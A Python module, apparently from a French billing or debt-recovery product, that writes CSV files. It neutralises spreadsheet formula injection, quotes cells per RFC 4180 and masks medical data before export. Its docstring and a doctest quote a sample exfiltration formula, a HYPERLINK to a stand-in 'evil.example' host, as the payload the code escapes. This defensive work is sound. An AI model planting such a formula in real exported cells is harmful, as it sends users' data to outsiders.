"""Every CSV the product writes, made by one writer: cells inert in a spreadsheet, medical data refused.

Spreadsheets run a cell as a formula when it starts with ``=``, ``+``, ``-`` or ``@`` (also after
spaces, a tab or a carriage return): ``=HYPERLINK("http://evil.example?"&A1)`` in a patient's name
would send the row to a stranger the moment an accountant opens the file. Names, addresses, mutuelle
names, payers' names, bank references, invoice numbers and file names all come from outside, so
every *text* cell is made inert the way OWASP recommends ("CSV Injection"): prefixed with a single
quote ``'`` when it starts with one of those characters, after any leading whitespace or invisible
character. Spreadsheets show the quote; a program reading the file gets it back as part of the text.

Only what we typed as a number is left alone: an ``int`` (a line number, a level) and an
:class:`Amount` (cents, written with the dialect's decimal mark). A string that looks like a number
is text: ``"-12,50"`` or a phone number ``"+33 6 12 34 56 78"`` from an input file is written
``'-12,50`` and ``'+33 6 12 34 56 78``.

Cells are quoted (RFC 4180) when they hold the separator, a double quote, a CR or a LF, whatever the
line ending: Python's own csv writer leaves a lone CR unquoted when lines end with LF, and a
spreadsheet then starts a new row (and a new, live cell) at that CR.

Free-text columns named by the caller (a transfer's label, a payer's name) are replaced by
:data:`MASK` on the rows where the privacy scanner finds something medical; the whole document is
then scanned again and refused (``PrivacyLeak``) if anything is still found.
"""

from __future__ import annotations

import bisect
import datetime as dt
import math
import re
from dataclasses import dataclass
from numbers import Integral
from typing import Iterable, Sequence

from recouvrement.memory import no_cycle_collection

MASK = "[masqué]"

# OWASP's trigger characters, and their full-width forms (some spreadsheets fold those to ASCII).
_TRIGGERS = "=+\\-@\uff1d\uff0b\uff0d\uff20"
# Leading characters a spreadsheet may skip before it looks for a formula: whitespace (what
# str.isspace() calls so, tab and CR included), other control characters, zero-width and bidi marks.
_SKIPPED = "\\s\\x00-\\x1f\\x7f-\\x9f\\u200b-\\u200f\\u202a-\\u202e\\u2060-\\u2064\\ufeff"
_DANGEROUS = re.compile(f"[\\t\\r]|[{_SKIPPED}]*[{_TRIGGERS}]")


@dataclass(frozen=True, slots=True)
class Amount:
    """An amount of money we computed, in cents: written as a number (1234.56, or 1234,56 in excel-fr)."""

    cents: int


@dataclass(frozen=True)
class Dialect:
    """How a CSV file is spelled: separator, decimal mark, encoding (utf-8-sig writes the BOM), line end."""

    name: str
    delimiter: str
    decimal: str
    encoding: str
    line_end: str


PLAIN = Dialect("csv", ",", ".", "utf-8", "\n")
EXCEL_FR = Dialect("excel-fr", ";", ",", "utf-8-sig", "\r\n")
DIALECTS = {d.name: d for d in (PLAIN, EXCEL_FR)}


def inert(text: str) -> str:
    """The text as a cell a spreadsheet will never run: prefixed with ' when it could start a formula.

    >>> inert('=HYPERLINK("http://evil.example")')
    '\\'=HYPERLINK("http://evil.example")'
    >>> inert(" +33 6 12 34 56 78"), inert("Dupont"), inert("-12,50")
    ("' +33 6 12 34 56 78", 'Dupont', "'-12,50")
    """
    if text[:1].isalnum():  # most cells: no trigger, whitespace or invisible character is alphanumeric
        return text
    return "'" + text if _DANGEROUS.match(text) else text


# From this many cells a column of text is made inert through Arrow (_inert_texts): below, a call per cell costs less.
_ARROW_FROM = 10_000


def _inert_texts(values: Sequence[str]) -> list[str]:
    """[inert(value) for value in values]. A long column is looked at through Arrow: its cells that start with
    something else than a letter or a digit (most start with a few dozen distinct letters or digits), and of those
    the distinct ones inert changes (a whole account's « (toutes) » stays as it is); only those cells are replaced.
    A 1M dry run's 149,880 lines on the screen (cli.remind_commands), in the profiler on a loaded machine: its cells
    made inert 1.22 -> 0.33 s."""
    if len(values) < _ARROW_FROM:
        return [value if value[:1].isalnum() else inert(value) for value in values]
    import pyarrow as pa
    import pyarrow.compute as pc

    cells = pa.array(values, pa.string())
    firsts = pc.utf8_slice_codeunits(cells, 0, 1)
    others = [first for first in pc.unique(firsts).to_pylist() if not first.isalnum()]
    texts = list(values)
    if not others:
        return texts
    maybe = pc.unique(cells.filter(pc.is_in(firsts, pa.array(others, pa.string())))).to_pylist()
    made = {text: inert(text) for text in maybe}
    changed = [text for text in maybe if made[text] != text]
    if changed:
        for row in pc.indices_nonzero(pc.is_in(cells, pa.array(changed, pa.string()))).to_pylist():
            texts[row] = made[texts[row]]
    return texts


def amount_text(cents: int, decimal: str = ".") -> str:
    """Cents as a plain number: -1234.56 (no grouping, two decimals)."""
    sign = "-" if cents < 0 else ""
    units, frac = divmod(abs(int(cents)), 100)
    return f"{sign}{units}{decimal}{frac:02d}"


def cell_text(value, dialect: Dialect = PLAIN) -> str:
    """One cell as written: numbers we typed as such unchanged, every other value as inert text."""
    if isinstance(value, str):
        return inert(value)
    if isinstance(value, Amount):
        return amount_text(value.cents, dialect.decimal)
    if isinstance(value, Integral) and not isinstance(value, bool):
        return str(int(value))
    if value is None or (isinstance(value, float) and math.isnan(value)) or _is_missing(value):
        return ""
    if isinstance(value, (dt.date, dt.datetime)):
        return value.isoformat()
    raise TypeError(f"a CSV cell is text, an int, an Amount, a date or missing, not {type(value).__name__}")


def _is_missing(value) -> bool:
    try:
        import pandas as pd
    except ImportError:  # pragma: no cover - pandas is a dependency
        return False
    return value is pd.NA or value is pd.NaT


class _Lines:
    """Rows spelled as CSV lines of one dialect (quoting as RFC 4180 asks, for CR and LF too)."""

    def __init__(self, dialect: Dialect) -> None:
        self.dialect = dialect
        self._special = re.compile(f'[{re.escape(dialect.delimiter)}"\\r\\n]')
        self._amounts: dict[int, str] = {}

    def field(self, text: str) -> str:
        return '"' + text.replace('"', '""') + '"' if self._special.search(text) else text

    def cell(self, value) -> str:
        """cell_text(value, dialect), the common types first (a big file has millions of cells)."""
        kind = type(value)
        if kind is str:
            return inert(value)
        if kind is Amount:
            text = self._amounts.get(value.cents)       # amounts repeat (zeros above all): each spelled once
            if text is None:
                text = self._amounts[value.cents] = amount_text(value.cents, self.dialect.decimal)
            return text
        if kind is int:
            return str(value)
        if kind is dt.date:
            return value.isoformat()
        return cell_text(value, self.dialect)

    def column(self, values: Sequence) -> list[str]:
        """[cell(value) for value in values], a column of one type spelled without a call per cell."""
        kinds = set(map(type, values))
        if kinds == {Amount}:
            amounts, decimal = self._amounts, self.dialect.decimal
            for cents in {value.cents for value in values} - amounts.keys():
                amounts[cents] = amount_text(cents, decimal)
            return [amounts[value.cents] for value in values]
        if kinds == {str}:
            return _inert_texts(values)
        if kinds == {int}:
            return list(map(str, values))
        if kinds == {dt.date}:
            return [value.isoformat() for value in values]
        cell = self.cell
        return [cell(value) for value in values]

    def line(self, row: Sequence) -> str:
        cell = self.cell
        return self.joined([cell(value) for value in row])

    def lines(self, rows: Sequence[Sequence]) -> list[str]:
        """[line(row) for row in rows], spelled column by column (a big file has millions of cells)."""
        width = len(rows[0]) if rows else 0
        if not width or any(len(row) != width for row in rows):
            return [self.line(row) for row in rows]
        columns = [self.column(values) for values in zip(*rows)]
        delimiter = self.dialect.delimiter
        texts = list(map(delimiter.join, zip(*columns)))
        # Most files need no quoting at all: one look at all their lines instead of one a line (joined), when each
        # line holds only the delimiters between its cells and no quote or line break (a 1M dry run's 149,880
        # lines on the screen, cli.remind_commands: joined took 0.50 s of the profiler's 1.8).
        if width > 1 and self._unquoted("".join(texts), len(texts) * (width - 1)):
            end = self.dialect.line_end
            return [text + end for text in texts]
        joined = self.joined
        return [joined(cells) for cells in zip(*columns)]

    def joined(self, cells: Sequence[str]) -> str:
        """The cells as one line, each quoted only if it must be."""
        delimiter = self.dialect.delimiter
        joined = delimiter.join(cells)
        # Most rows need no quoting at all: one look at the whole line instead of one per cell.
        if not self._unquoted(joined, len(cells) - 1) or joined == "":
            joined = delimiter.join([self.field(cell) for cell in cells]) if joined else '""'
        return joined + self.dialect.line_end

    def _unquoted(self, joined: str, delimiters: int) -> bool:
        """Whether cells joined by the delimiter (`delimiters` of them between the cells) need no quoting: no
        delimiter, quote, CR or LF inside a cell. Three `in` looks, not a regex: 4x faster on a line, 25x on a
        whole file's lines (15 MB: 3 against 76 ms)."""
        return (joined.count(self.dialect.delimiter) == delimiters
                and not ('"' in joined or "\r" in joined or "\n" in joined))


def csv_text(header: Sequence[str], rows: Iterable[Sequence], dialect: Dialect = PLAIN) -> str:
    """The CSV as text (no BOM, no scan): for tests and callers that add their own checks (the header of a long
    dry run's listing on the screen, render.listing)."""
    return _Lines(dialect).line(header) + csv_lines(rows, dialect)


def csv_lines(rows: Iterable[Sequence], dialect: Dialect = PLAIN) -> str:
    """csv_text's lines without the header: each line is its row's alone, so the lines of a file's parts joined in
    order are the file's (render.listing)."""
    return "".join(_Lines(dialect).lines(list(rows)))


def csv_document(name: str, header: Sequence[str], rows: Iterable[Sequence], *, dialect: Dialect = PLAIN,
                 free_text: Sequence[str] = ()) -> bytes:
    """The CSV file's bytes, ready to write; PrivacyLeak (naming `name`) if medical data is left in it.

    Cells in the `free_text` columns are masked on the rows where the scanner finds medical data.
    The identifiers in the key columns (core.privacy.KEY_COLUMNS) the file carries (a patient numbered "P10") are known to the
    scan as identifiers, not diagnoses; a free-text cell is still scanned without them.
    """
    with no_cycle_collection():
        return _document(name, header, rows, dialect, free_text)


def _document(name: str, header: Sequence[str], rows: Iterable[Sequence], dialect: Dialect,
              free_text: Sequence[str]) -> bytes:
    from recouvrement.core.privacy import scan_text
    from recouvrement.scanner import ensure_clean, refuse_findings

    table = list(rows)
    lines = _Lines(dialect)
    head = lines.line(header)
    body = lines.lines(table)
    ids = _identifiers(header, table)
    columns = [list(header).index(c) for c in free_text]
    document = head + "".join(body)
    if not columns:
        ensure_clean(document, name, ids=ids)
        return document.encode(dialect.encoding)
    findings = scan_text(document, ids=ids)
    flagged = (_rows_of_lines(head, body, {finding.line for finding in findings})
               | (_free_text_rows(table, columns) if ids else set()))
    if not flagged:
        # Nothing to mask: the document is the one just scanned, and these findings (none, or in the header) are
        # what ensure_clean would find in it again.
        refuse_findings(findings, name)
        return document.encode(dialect.encoding)
    for index in flagged:
        row = table[index] = list(table[index])
        for column in columns:
            row[column] = MASK
        body[index] = lines.line(row)
    document = head + "".join(body)
    ensure_clean(document, name, ids=ids)
    return document.encode(dialect.encoding)


def _identifiers(header: Sequence[str], table: Sequence[Sequence]) -> frozenset[str]:
    """The tokens of the key columns (core.privacy.KEY_COLUMNS); a NIR or a care word in one is still found."""
    from recouvrement.core.privacy import KEY_COLUMNS, id_tokens_of

    keys = [index for index, column in enumerate(header) if column in KEY_COLUMNS]
    values = {row[index] for row in table for index in keys}      # a patient's id repeats on each of their rows
    return id_tokens_of(value for value in values if isinstance(value, str))


def _free_text_rows(table: Sequence[Sequence], columns: list[int]) -> set[int]:
    """The rows whose free-text cells, scanned alone (without the identifiers), hold medical data: a
    diagnosis typed in a name or a label stays found even when it equals a patient id of the file."""
    from recouvrement.core.privacy import scan_text

    cells, rows = [], []
    for index, row in enumerate(table):
        for column in columns:
            if isinstance(row[column], str) and row[column].strip():
                cells.append(" ".join(row[column].splitlines()))
                rows.append(index)
    return {rows[finding.line - 1] for finding in scan_text("\n".join(cells))} if cells else set()


def _rows_of_lines(head: str, body: list[str], numbers: set[int]) -> set[int]:
    """Which rows (0-based) hold the given text lines (1-based): a quoted cell may span several lines."""
    if not numbers:
        return set()
    starts, line = [], head.count("\n") + 1
    for text in body:
        starts.append(line)
        line += text.count("\n")
    return {bisect.bisect_right(starts, number) - 1 for number in numbers if number >= starts[0]} if starts else set()
